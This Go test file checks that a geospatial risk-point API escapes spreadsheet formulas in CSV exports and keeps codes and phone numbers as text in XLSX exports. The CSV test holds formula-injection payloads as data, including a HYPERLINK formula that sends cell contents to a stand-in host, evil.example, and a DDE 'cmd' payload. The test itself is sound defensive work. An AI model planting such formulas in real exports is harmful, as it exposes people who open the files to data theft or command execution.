package api_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

// TestCSVExportsNeutraliseFormulas stores names a spreadsheet would run
// (OWASP's CSV injection) as a township office could, and reads the
// planner's CSV export: each such cell starts with an apostrophe.
func TestCSVExportsNeutraliseFormulas(t *testing.T) {
	e := newEnv(t)
	names := []string{`=HYPERLINK("http://evil.example/?"&A1,"详情")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"}
	for i, n := range names {
		props := riskProps()
		props["name"], props["external_id"] = n, fmt.Sprintf("F%d", i)
		if res := e.do("POST", "/api/v1/risk_points", "xingang", pointFeature(115.2, 23.0, props), nil); res.StatusCode != 201 {
			t.Fatalf("create %q: %d %s", n, res.StatusCode, res.Body)
		}
	}
	res := e.do("GET", "/api/v1/risk_points/export?format=csv", "planner", nil, nil)
	if res.StatusCode != 200 {
		t.Fatalf("export: %d %s", res.StatusCode, res.Body)
	}
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(res.Body, []byte("\ufeff")))).ReadAll()
	if err != nil || len(rows) != len(names)+1 {
		t.Fatalf("CSV: %v, %d rows", err, len(rows))
	}
	col := slices.Index(rows[0], "name")
	for i, r := range rows[1:] {
		if want := "'" + strings.TrimSpace(names[i]); r[col] != want { // (names are stored trimmed)
			t.Errorf("row %d: name cell %q, want %q", i+1, r[col], want)
		}
	}
}

// TestXLSXExportReadsBackWithCodesAsText reads the layer workbook with
// excelize and with GDAL's XLSX driver: Chinese headings, a frozen heading
// row, a dimension naming the whole table, codes and phone numbers as text
// (a leading zero kept, nothing turned into a number or a formula), and as
// many rows as the API lists.
func TestXLSXExportReadsBackWithCodesAsText(t *testing.T) {
	e := newEnv(t)
	roundTripPoints(t, e)
	props := riskProps()
	props["name"], props["phone"], props["external_id"] = "=1+1", "013800138000", "000123"
	if res := e.do("POST", "/api/v1/risk_points", "admin", pointFeature(115.3, 23.0, props), nil); res.StatusCode != 201 {
		t.Fatalf("create: %d %s", res.StatusCode, res.Body)
	}
	props["external_id"] = "HF-1" // in 海丰, outside chengqu's county
	if res := e.do("POST", "/api/v1/risk_points", "admin", pointFeature(116.7, 23.0, props), nil); res.StatusCode != 201 {
		t.Fatalf("create: %d %s", res.StatusCode, res.Body)
	}
	var list struct {
		N int `json:"numberReturned"`
	}
	e.do("GET", "/api/v1/risk_points?limit=1000", "chengqu", nil, &list)
	res := e.do("GET", "/api/v1/risk_points/export?format=xlsx", "chengqu", nil, nil)
	if res.StatusCode != 200 || !strings.Contains(res.Header.Get("Content-Type"), "spreadsheetml") {
		t.Fatalf("export: %d %s", res.StatusCode, res.Header)
	}
	f, err := excelize.OpenReader(bytes.NewReader(res.Body))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	sheet := f.GetSheetList()[0]
	rows, err := f.GetRows(sheet)
	if err != nil {
		t.Fatal(err)
	}
	if list.N != 4 || len(rows)-1 != list.N {
		t.Fatalf("%d rows in the workbook, %d in the API (chengqu sees 4 of 5)", len(rows)-1, list.N)
	}
	head := rows[0]
	for _, h := range []string{"编号", "名称", "联系电话", "所在网格", "镇街代码", "经度", "纬度"} {
		if !slices.Contains(head, h) {
			t.Errorf("heading %q missing from %v", h, head)
		}
	}
	dim, _ := f.GetSheetDimension(sheet)
	last, _ := excelize.CoordinatesToCellName(len(head), len(rows))
	if dim != "A1:"+last {
		t.Errorf("dimension %q, want A1:%s", dim, last)
	}
	panes, _ := f.GetPanes(sheet)
	if !panes.Freeze || panes.YSplit != 1 {
		t.Errorf("the heading row is not frozen: %+v", panes)
	}
	for i, h := range head {
		col, _ := excelize.ColumnNumberToName(i + 1)
		switch h {
		case "所在网格", "镇街代码", "联系电话", "编号":
			for r := 2; r <= len(rows); r++ {
				cell := fmt.Sprintf("%s%d", col, r)
				if typ, _ := f.GetCellType(sheet, cell); typ != excelize.CellTypeInlineString {
					t.Errorf("%s (%s) is not text: %v", cell, h, typ)
				}
			}
		}
	}
	var sawPhone bool
	for _, r := range rows[1:] {
		sawPhone = sawPhone || slices.Contains(r, "013800138000")
	}
	if !sawPhone {
		t.Error("the phone number lost its leading zero")
	}
	// GDAL's XLSX driver, as QGIS would open it
	path := filepath.Join(t.TempDir(), "risk_points.xlsx")
	os.WriteFile(path, res.Body, 0o644)
	out, err := exec.Command("ogrinfo", "-ro", "-al", "-so", path).CombinedOutput()
	if err != nil || !strings.Contains(string(out), "Feature Count: 4") || !strings.Contains(string(out), "所在网格: String") {
		t.Errorf("ogrinfo: %v\n%s", err, out)
	}
}
